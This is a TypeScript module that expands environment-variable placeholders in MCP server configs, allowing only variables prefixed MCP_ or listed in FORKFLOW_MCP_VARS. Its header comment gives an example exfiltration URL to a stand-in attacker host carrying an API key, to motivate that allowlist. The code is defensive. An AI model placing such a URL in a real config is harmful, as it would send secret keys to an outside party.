import { envSetting } from '../../shared/env-settings';
/**
 * `${VAR}` and `${VAR:-default}` in an MCP server's env, headers, command, args and URL,
 * expanded on the worker from its own environment: a token need not be written into a
 * fork's input (and so into its history). An unset variable without a default is an error
 * that names it. Only variables the worker's operator shares expand: names starting `MCP_`,
 * and those listed in FORKFLOW_MCP_VARS (comma-separated). Whoever starts a fork writes
 * these configs, so `https://evil.example/?k=${ANTHROPIC_API_KEY}` must not reach a key.
 */

/** A variable a server's config needs and this worker does not have. */
export class McpConfigVariableError extends Error {
  override name = 'McpConfigVariableError';
}

const VAR = /\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}/g;

/** Whether this worker shares `name` with MCP configs (an `MCP_` prefix, or listed in FORKFLOW_MCP_VARS). */
export function sharedWithMcp(name: string, env: NodeJS.ProcessEnv = process.env): boolean {
  return name.startsWith('MCP_') || (envSetting(env, 'FORKFLOW_MCP_VARS') ?? '').split(/[\s,]+/).includes(name);
}

export function expandVars(text: string, env: NodeJS.ProcessEnv = process.env): string {
  return text.replace(VAR, (_all, name: string, fallback: string | undefined) => {
    if (!sharedWithMcp(name, env)) throw new McpConfigVariableError(`\${${name}} is not shared with MCP configs on this worker (list it in FORKFLOW_MCP_VARS, or name it MCP_…)`);
    const value = env[name];
    if (value !== undefined && value !== '') return value;
    if (fallback !== undefined) return fallback;
    throw new McpConfigVariableError(`\${${name}} is not set on this worker (give it a value, or write \${${name}:-default})`);
  });
}

export function expandRecord(record: Record<string, string> | undefined, env: NodeJS.ProcessEnv = process.env): Record<string, string> {
  return Object.fromEntries(Object.entries(record ?? {}).map(([k, v]) => [k, expandVars(v, env)]));
}
